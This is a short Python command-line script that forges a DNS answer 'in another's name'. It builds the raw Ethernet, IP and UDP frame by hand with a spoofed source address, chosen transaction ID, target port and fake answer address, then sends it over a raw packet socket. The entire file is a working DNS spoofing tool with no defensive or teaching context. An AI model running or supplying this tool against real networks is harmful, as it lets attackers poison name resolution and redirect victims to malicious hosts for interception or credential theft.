#!/usr/bin/python3
"""Sends a DNS answer in another's name: dns_forge.py IFACE MAC FROM TO PORT ID NAME ADDRESS."""

import socket
import struct
import sys

iface, mac, source, destination, port, number, name, address = sys.argv[1:]


def total(data):
    words = sum(struct.unpack(f">{len(data) // 2}H", data))
    while words >> 16:
        words = (words & 0xFFFF) + (words >> 16)
    return words ^ 0xFFFF


labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
message = struct.pack(">6H", int(number), 0x8180, 1, 1, 0, 0) + labels + struct.pack(">HH", 1, 1)
message += struct.pack(">HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(address)
udp = struct.pack(">4H", 53, int(port), 8 + len(message), 0) + message  # no checksum
ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + socket.inet_aton(source) + socket.inet_aton(destination)
ip = ip[:10] + struct.pack(">H", total(ip)) + ip[12:]
sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((iface, 0))
sender.send(bytes.fromhex(mac.replace(":", "")) + sender.getsockname()[4] + b"\x08\x00" + ip + udp)
